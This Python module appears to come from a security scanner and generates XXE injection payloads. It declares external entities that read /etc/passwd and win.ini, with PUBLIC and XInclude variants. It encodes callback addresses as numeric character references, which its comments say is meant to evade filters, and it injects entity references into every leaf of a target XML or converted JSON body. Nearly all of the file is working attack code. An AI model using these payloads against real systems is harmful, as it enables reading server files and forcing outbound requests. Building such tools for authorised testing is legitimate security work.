"""Payloads of `xxe`: a document with entities of our own, which only name a text or a file that every system has.

Entities are never nested and never repeated within each other: nothing grows.
"""

import json
import re
from xml.sax.saxutils import escape

INTERNAL = '<!ENTITY {name} "{text}">'
EXTERNAL = '<!ENTITY {name} SYSTEM "file://{file}">'
# The same by the other word of the standard (XML 1.0, section 4.2.2), for filters that look for one of them.
PUBLIC = '<!ENTITY {name} PUBLIC "{name}" "file://{file}">'
# The address is put together by the parser out of numbers, so that who only looks for addresses in a text finds none.
# Both kinds are declared: an entity of the document's content, and one of the declarations themselves.
CALLING = "<!ENTITY % made \"<!ENTITY {name} SYSTEM '{address}'><!ENTITY &#37; more SYSTEM '{address}'>\">%made;%more;"
INCLUDE = '<{name} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file://{file}"/></{name}>'
# No element is complete, so that nothing is there to be mended.
BROKEN = '<?xml version="1.0"?><{mark}'
LINUX_FILE, WINDOWS_FILE = "/etc/passwd", "/c:/windows/win.ini"
MISSING_FILE = "/{mark}/{mark}"

_MOST_LEAVES = 40
# What may stand before the root (XML 1.0, section 2.8), a document type without or with a subset among it.
_PROLOG = re.compile(
    r"(?:\s+|<\?.*?\?>|<!--.*?-->|(?P<doctype><!DOCTYPE[^\[>]*(?:\[[^\]]*\]\s*)?>))*", re.DOTALL | re.IGNORECASE
)
_ROOT = re.compile(r"<([A-Za-z_][\w.:-]*)")
_LEAF = re.compile(r">(\s*+[^<>&\s][^<>&]*+)</")
_NUMBER = re.compile(r"\s*[+-]?\d+(?:\.\d+)?\s*")


def is_document(value: str) -> bool:
    """Whether the value is XML, by its beginning and end."""
    prolog = _PROLOG.match(value)
    return prolog is not None and _ROOT.match(value, prolog.end()) is not None and value.rstrip().endswith(">")


def leaves(document: str) -> list[tuple[int, int]]:
    """Where the texts of elements that hold nothing else stand; those that are no numbers first."""
    found = [match.span(1) for match in _LEAF.finditer(document)][:_MOST_LEAVES]
    return sorted(found, key=lambda span: _NUMBER.fullmatch(document[slice(*span)]) is not None)


def with_entity(document: str, declaration: str, name: str, where: list[tuple[int, int]]) -> str:
    """The document with a declaration, and a reference behind each of these texts, on a line of its own.

    The line is ended by a reference as well: a header holds no line break.
    """
    for _, end in sorted(where, reverse=True):
        document = f"{document[:end]}&#10;&{name};{document[end:]}"
    prolog = _PROLOG.match(document)
    root = _ROOT.match(document, prolog.end() if prolog else 0)
    if root is None:
        return document
    begin = prolog.start("doctype") if prolog and prolog["doctype"] else root.start()
    return f"{document[:begin]}<!DOCTYPE {root[1]} [{declaration}]>{document[root.start() :]}"


def calling(name: str, address: str) -> str:
    """The declaration of an entity whose content is fetched from an address."""
    return CALLING.format(name=name, address="".join(f"&#{ord(character)};" for character in address))


def from_json(text: str) -> str | None:
    """A JSON object as a document of the same names; None where the text is none, or its names are no XML names."""
    try:
        members = json.loads(text)
    except ValueError:
        return None
    if not isinstance(members, dict) or not members:
        return None
    if not all(re.fullmatch(r"[A-Za-z_][\w.-]*", name) for name in members):
        return None
    inner = "".join(
        f"<{name}>{escape(str(value))}</{name}>"
        for name, value in members.items()
        if not isinstance(value, dict | list)
    )
    return f'<?xml version="1.0"?><root>{inner}</root>' if inner else None
